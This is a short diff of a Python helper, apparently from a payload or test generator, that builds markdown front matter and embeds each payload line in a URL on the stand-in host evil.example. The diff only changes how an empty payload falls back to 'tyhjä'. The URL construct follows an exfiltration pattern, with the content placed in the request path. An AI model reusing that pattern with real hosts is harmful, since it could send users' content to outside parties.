@@ -67,8 +67,8 @@ def let_through(payload: Payload, municipality: str, text: str = "") -> str:
         municipality: The name of one.
         text: What stands in the payload's place, if something else does.
     """
-    line = (text or payload.line or "tyhjä")[:MOST]
     block = text or CONTROL.sub("", payload.text)
+    line = block[:MOST] if block.strip() else "tyhjä"
     value, address = quoted(line), quoted(f"https://evil.example/{''.join(line.split())}")
     header = f"""---
 title: {value}
